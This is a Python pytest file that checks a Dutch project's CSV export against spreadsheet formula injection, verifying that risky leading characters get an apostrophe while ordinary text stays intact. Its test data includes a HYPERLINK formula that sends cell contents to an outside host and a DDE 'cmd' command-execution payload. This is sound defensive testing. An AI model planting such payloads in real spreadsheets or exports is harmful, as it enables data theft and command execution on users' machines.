"""A spreadsheet opens our tables without running anything."""

from __future__ import annotations

import csv
import io

import pytest

from kennisbank.csv_text import csv_bytes


def cells(text: str, delimiter: str = ",") -> list[str]:
    """Return every cell that a spreadsheet finds, with the delimiter of its language."""
    if delimiter == ",":
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # Where cells are parted by semicolons, our quotation marks protect the first cell only.
    return [cell for line in text.splitlines() for cell in line.split(delimiter)]


def read(cell: str, delimiter: str = ",") -> list[str]:
    """Return the cells of a table with a harmless cell and this one."""
    return cells(csv_bytes([["naam", cell]]).decode(), delimiter)


@pytest.mark.parametrize("cell", ["-3", "-3.5", "+2", "7", "2019-2021", "a=b", "a - b", "'t Hart"])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    """Numbers keep their sign, and a sign inside a text means nothing."""
    assert read(cell) == ["naam", cell]


def test_a_list_in_a_text_stays_as_it_is() -> None:
    """A dash and a space begin an item, not a formula."""
    assert read("Kies:\n- eerst\n- dan")[1] == "Kies:\n- eerst\n- dan"


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1'),
        *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1", "-", "=", "\u00a0=1+1", '" "=1+1', "--1"),
        '=HYPERLINK("https://x.nl?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_may_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    """Also behind spaces, a tab, a line break or a quotation mark, and in wide signs."""
    assert read(cell)[1].startswith("'")


@pytest.mark.parametrize("cell", ["a;=1+1", "a; =1+1", 'a;"=1+1', "a\n=1+1", "a\n\n@b", "a;-1+1"])
def test_no_other_delimiter_makes_a_formula(cell: str) -> None:
    """A Dutch spreadsheet parts cells at semicolons, in the middle of ours."""
    found = read(cell, ";")

    assert [one for one in found if one.strip(' "')[:1] in {*"=+@-"}] == []
